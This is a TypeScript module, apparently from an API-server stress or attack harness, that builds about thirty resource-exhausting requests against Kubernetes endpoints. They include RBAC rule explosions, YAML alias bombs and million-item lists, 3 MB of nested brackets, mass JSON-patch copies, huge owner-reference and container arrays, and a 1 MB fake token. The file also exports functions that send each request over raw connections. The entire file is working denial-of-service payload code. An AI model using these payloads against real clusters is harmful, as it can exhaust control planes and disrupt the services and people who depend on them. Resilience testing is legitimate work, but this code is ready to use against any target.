import { type Attack, repeat } from "../attack.js";
import { dial, requestText } from "../raw-connection.js";

const times = <T>(n: number, make: (at: number) => T): T[] => Array.from({ length: n }, (_, at) => make(at));
const numbers = (n: number): string[] => times(n, (at) => `x${at}`);

/** One request that is made to cost as much as it can. */
export interface Sent {
  readonly name: string;
  readonly method?: string;
  readonly path: string;
  readonly type?: string;
  readonly body: string;
}

const json = (value: unknown): string => JSON.stringify(value);
const pods = "/api/v1/namespaces/default/pods";
const reviews = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
const maps = "/api/v1/namespaces/default/configmaps";
const pod = (spec: object): string =>
  json({
    apiVersion: "v1",
    kind: "Pod",
    metadata: { generateName: "hostile-" },
    spec: { containers: [{ name: "a", image: "b" }], ...spec },
  });

/** Objects and patches made to cost as much as they can. */
export const hostileObjects: readonly Sent[] = [
  {
    name: "a role whose rules multiply",
    path: "/apis/rbac.authorization.k8s.io/v1/clusterroles",
    body: json({
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "ClusterRole",
      metadata: { generateName: "hostile-" },
      rules: [{ apiGroups: numbers(400), resources: numbers(400), verbs: numbers(400) }],
    }),
  },
  {
    name: "volume paths of 200,000 slashes",
    path: pods,
    body: pod({
      volumes: [
        {
          name: "v",
          projected: {
            sources: times(2, () => ({
              configMap: { name: "c", items: [{ key: "k", path: `a${"/".repeat(200_000)}b` }] },
            })),
          },
        },
      ],
    }),
  },
  {
    name: "15,000 volume items",
    path: pods,
    body: pod({
      volumes: [
        { name: "v", configMap: { name: "c", items: times(15_000, (at) => ({ key: `k${at}`, path: `p${at}` })) } },
      ],
    }),
  },
  {
    name: "a certificate request of 800,000 line breaks",
    path: "/apis/certificates.k8s.io/v1/certificatesigningrequests",
    body: json({
      apiVersion: "certificates.k8s.io/v1",
      kind: "CertificateSigningRequest",
      metadata: { generateName: "hostile-" },
      spec: {
        signerName: "a/b",
        usages: ["client auth"],
        request: Buffer.from(`-----BEGIN CERTIFICATE REQUEST-----\n${"\n".repeat(800_000)}`).toString("base64"),
      },
    }),
  },
  {
    name: "10,000 owner references",
    path: maps,
    body: json({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: {
        generateName: "hostile-",
        ownerReferences: times(10_000, (at) => ({ apiVersion: "v1", kind: "Pod", name: "a", uid: `u${at}` })),
      },
    }),
  },
  {
    name: "200,000 equal keys in YAML",
    method: "PATCH",
    path: `${maps}/hostile?fieldManager=m`,
    type: "application/apply-patch+yaml",
    body: `apiVersion: v1\nkind: ConfigMap\ndata:\n${"  k: v\n".repeat(200_000)}`,
  },
  ...(
    [
      ["620,000 equal keys", "a: 1\n".repeat(620_000)],
      ["780,000 floats", `a: [${"1.5,".repeat(780_000)}1]`],
      ["300,000 merge keys", `x: &a {b: 1}\ny:\n${"  <<: *a\n".repeat(300_000)}`],
      ["250,000 keys in brackets", `{"spec":{${times(250_000, (at) => `"k${at}":1`).join()}}}`],
      ["a million empty items", "- \n".repeat(1_000_000)],
    ] as const
  ).map(([name, body]) => ({ name: `a review in YAML: ${name}`, path: reviews, type: "application/yaml", body })),
  {
    name: "a review with a selector of 3 MB",
    path: reviews,
    body: json({
      spec: {
        resourceAttributes: { verb: "list", resource: "pods", labelSelector: { rawSelector: "a!=b,".repeat(600_000) } },
      },
    }),
  },
  {
    name: "a review with 250,000 unknown members",
    path: reviews,
    body: `{${numbers(250_000)
      .map((name) => `"${name}":1`)
      .join()}}`,
  },
  {
    name: "a review whose spec is a list of a million members",
    path: reviews,
    type: "application/yaml",
    body: `spec:\n${"- \n".repeat(1_000_000)}`,
  },
  ...(
    [
      ["under a name that it does not have", "list"],
      ["in place of its data", "data"],
      ["in place of its finalizers", "metadata:\n  finalizers"],
    ] as const
  ).map(([name, member]) => ({
    name: `a ConfigMap in YAML: a million empty items ${name}`,
    path: maps,
    type: "application/yaml",
    body: `apiVersion: v1\nkind: ConfigMap\n${member}:\n${(member.includes(":") ? "  - \n" : "- \n").repeat(member.includes(":") ? 620_000 : 1_000_000)}`,
  })),
  {
    name: "aliases of aliases in YAML",
    method: "PATCH",
    path: `${maps}/hostile?fieldManager=m`,
    type: "application/apply-patch+yaml",
    body: `a: &a [x,x,x,x,x,x,x,x,x]\n${times(30, (at) => `b${at}: &b${at} [${times(9, () => (at === 0 ? "*a" : `*b${at - 1}`)).join()}]`).join("\n")}\n`,
  },
  {
    name: "100,000 members that are applied",
    method: "PATCH",
    path: `${maps}/hostile?fieldManager=m&force=true`,
    type: "application/apply-patch+yaml",
    body: json({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "hostile" },
      data: Object.fromEntries(times(100_000, (at) => [`k${at}`, "v"])),
    }),
  },
  { name: "3 MB of brackets", path: maps, body: "[".repeat(3_000_000) },
  { name: "objects in objects", path: maps, body: '{"a":'.repeat(500_000) },
  {
    name: "10,000 operations on a list",
    method: "PATCH",
    path: `${maps}/patched`,
    type: "application/json-patch+json",
    body: json([
      { op: "add", path: "/metadata/finalizers", value: [] },
      ...times(9_999, (at) => ({ op: "add", path: "/metadata/finalizers/0", value: `a/${at}` })),
    ]),
  },
  {
    name: "copies of copies",
    method: "PATCH",
    path: `${maps}/patched`,
    type: "application/json-patch+json",
    body: json(times(2000, (at) => ({ op: "copy", from: "/data", path: `/data/x${at}` }))),
  },
  {
    name: "80,000 equal ports",
    path: pods,
    body: pod({ containers: [{ name: "a", image: "b", ports: times(80_000, () => ({ containerPort: 80 })) }] }),
  },
  {
    name: "20,000 owners that all control",
    path: maps,
    body: json({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: {
        generateName: "hostile-",
        ownerReferences: times(20_000, (at) => ({
          apiVersion: "v1",
          kind: "Pod",
          name: `n${at}`,
          uid: `u${at}`,
          controller: true,
        })),
      },
    }),
  },
  {
    name: "a pod of 10,000 containers",
    path: pods,
    body: pod({ containers: times(10_000, (at) => ({ name: `c${at}`, image: "x" })) }),
  },
  {
    name: "a network policy of 20,000 peers",
    path: "/apis/networking.k8s.io/v1/namespaces/default/networkpolicies",
    body: json({
      apiVersion: "networking.k8s.io/v1",
      kind: "NetworkPolicy",
      metadata: { generateName: "hostile-" },
      spec: {
        podSelector: {},
        ingress: [{ from: times(20_000, (at) => ({ ipBlock: { cidr: `10.${at >> 8}.${at & 255}.0/24` } })) }],
      },
    }),
  },
  {
    name: "a token that is no token, 1 MB long",
    path: "/apis/authentication.k8s.io/v1/tokenreviews",
    body: json({ apiVersion: "authentication.k8s.io/v1", kind: "TokenReview", spec: { token: "a.".repeat(500_000) } }),
  },
];

export const objectAttacks: readonly Attack[] = hostileObjects.map(
  ({ name, method = "POST", path, type = "application/json", body }) => ({
    name,
    run: (target, signal) =>
      repeat(signal, 2, async () => {
        const connection = await dial(target, signal);
        connection.write(requestText(target, { method, path, headers: `Content-Type: ${type}\r\n`, body }));
        await connection.answered;
        connection.socket.destroy();
      }),
  }),
);
